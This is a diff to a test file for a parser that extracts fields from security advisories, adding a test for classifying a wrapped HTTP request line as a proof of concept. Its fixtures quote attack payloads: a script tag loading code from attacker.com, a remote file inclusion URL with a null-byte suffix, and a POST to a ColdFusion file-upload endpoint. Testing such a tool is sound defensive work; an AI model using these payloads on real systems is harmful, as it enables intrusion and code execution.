@@ -425,6 +425,14 @@ describe('advisory header blocks', () => {
       'Fix: http://www.openbsd.org/cgi-bin/cvsweb/src/lib/libc/gdtoa/sum.c and https://sourceforge.net/projects/pandora/files/3.1.1/',
       '<script src=http://attacker.com/joom163.js></script>',
     ].join('\n');
-    expect(extractReport({ text, subject: null }).fields.locations?.value).toEqual(['http://victim.example/pandora_diag.php?argc=2&arg=http://serverattacker/salsa.php%00']);
+    expect(extractReport({ text, subject: null }).fields.locations?.value).toEqual([
+      'http://victim.example/pandora_diag.php?argc=2&arg=http://serverattacker/salsa.php%00',
+    ]);
+  });
+
+  it('takes a request line that wraps its HTTP version for a PoC, not for a step', () => {
+    const f = fields('Request\n\nPOST /cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/upload.cfm\nHTTP/1.1\nHost: hostname:portno\n');
+    expect(f.poc).toMatch(/^POST \/cf_scripts/);
+    expect(f.steps).toBeUndefined();
   });
 });
